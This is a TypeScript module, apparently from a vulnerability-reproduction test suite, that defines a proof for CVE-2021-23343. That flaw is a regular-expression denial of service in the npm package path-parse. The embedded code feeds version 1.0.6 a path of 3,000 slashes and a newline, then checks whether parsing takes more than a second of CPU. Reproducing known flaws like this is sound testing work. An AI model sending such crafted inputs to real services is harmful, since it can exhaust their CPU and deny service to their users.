import { defineProof } from '../define-proof.ts';

/** Takes a path of very many slashes apart and takes the time. */
export const pathParseTime = defineProof({
  name: 'path-parse-time',
  ids: ['CVE-2021-23343', 'GHSA-hj48-42vr-x3v9'],
  ecosystem: 'npm',
  package: 'path-parse',
  kind: 'redos',
  describes: 'Takes a path of very many slashes apart and takes the time.',
  shownOn: { vulnerable: '1.0.6', fixed: '1.0.7' },
  source: String.raw`
module.exports = ({ load, cpuMs }) => {
  const subject = load();
  const answers = subject.posix('/a/b.txt').base === 'b.txt';
  const reproduced =
    cpuMs(() => {
      try {
        subject.posix('/'.repeat(3_000) + '\n');
      } catch {
        // Refusing is an answer as well.
      }
    }) > 1_000;
  return { reproduced, answers };
};
`,
});
